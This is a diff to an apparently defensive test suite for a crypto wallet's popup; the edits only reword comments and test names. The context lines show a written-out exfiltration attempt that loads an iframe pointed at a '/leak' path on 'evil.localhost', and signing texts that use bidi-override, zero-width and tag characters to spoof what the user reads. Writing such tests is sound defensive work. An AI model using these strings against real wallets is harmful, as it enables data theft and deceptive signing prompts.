@@ -4,7 +4,7 @@ import { en as reviewWords } from '../../sites/wallet/words/review/en.ts'
 import { walletPopup } from '../journeys/walletPopup.ts'
 import { type Asking, closed, type Scene, startScene } from './parts/startScene.ts'
 
-// T5: a page sends the wallet texts that mean to become code, or to look like something else, on the wallet's own screen.
+// T5: a page sends the wallet texts that try to become code, or to look like something else on the wallet's own screen.
 
 let scene: Scene
 let evil: Page
@@ -24,7 +24,7 @@ describe('the origin itself', () => {
     await wallet.close()
     scene.visitor.complaints.take()
   })
-  /** In a task of its own: what DevTools evaluates directly may use `eval` whatever the policy says. */
+  /** In a task of its own: code that DevTools evaluates directly may use `eval` whatever the policy says. */
   const attempt = (attack: string) =>
     wallet.evaluate(`new Promise((resolve) => setTimeout(async () => {
       try { resolve(await (async () => { ${attack} })()) } catch (error) { resolve(error.name) }
@@ -82,21 +82,21 @@ describe('the origin itself', () => {
       (url: string) =>
         `const f = document.createElement('iframe'); f.src = '${url}'; document.body.append(f); await new Promise((r) => { f.onload = r })`,
     ],
-  ])('attack: nothing leaves by %s', async (way, attack) => {
+  ])('attack: no data leaves by %s', async (way, attack) => {
     const path = `/leak/${encodeURIComponent(way)}`
     await attempt(attack(`${scene.pages.originOf('evil.localhost')}${path}`))
     expect(scene.pages.requests.filter(({ url }) => url.startsWith(path))).toEqual([])
   })
 })
 
-describe('what the person reads', () => {
+describe('what the user reads', () => {
   let asking: Asking
   afterEach(async () => {
     expect(await asking.popup.evaluate('typeof globalThis.hacked')).toBe('undefined')
     await walletPopup.press(asking.popup, 'Reject')
     await asking.heard
     await closed(asking.popup)
-    // Had any of it been taken for code, the content security policy would have complained.
+    // If any of it had been taken for code, the content security policy would have complained.
     expect(scene.visitor.complaints.take()).toEqual([])
   })
 
@@ -132,7 +132,7 @@ describe('what the person reads', () => {
     for (const text of [image, script, ...attacks]) expect(shown).toContain(text)
   })
 
-  test('attack: letters that turn, hide or erase others are made visible, and said to be there', async () => {
+  test('attack: characters that reverse, hide or erase others are made visible and reported', async () => {
     const text = 'Pay 1 to \u202Eevil\u202C or\u200B\u2060 2\b3, hi\u{E0041}'
     asking = await scene.ask(evil, 'personal_sign', [text, account])
     expect(await asking.popup.getByRole('region', { name: reviewWords.text }).textContent()).toBe(
@@ -141,7 +141,7 @@ describe('what the person reads', () => {
     await asking.popup.getByText(reviewWords.warnings['hidden-characters']).waitFor()
   })
 
-  test('attack: a text without end leaves the buttons where they are', async () => {
+  test('attack: an endless text does not move the buttons', async () => {
     asking = await scene.ask(evil, 'personal_sign', ['\n'.repeat(2000) + 'W'.repeat(20_000), account])
     await asking.popup.getByRole('region', { name: reviewWords.text }).waitFor()
     for (const name of ['Confirm', 'Reject']) {
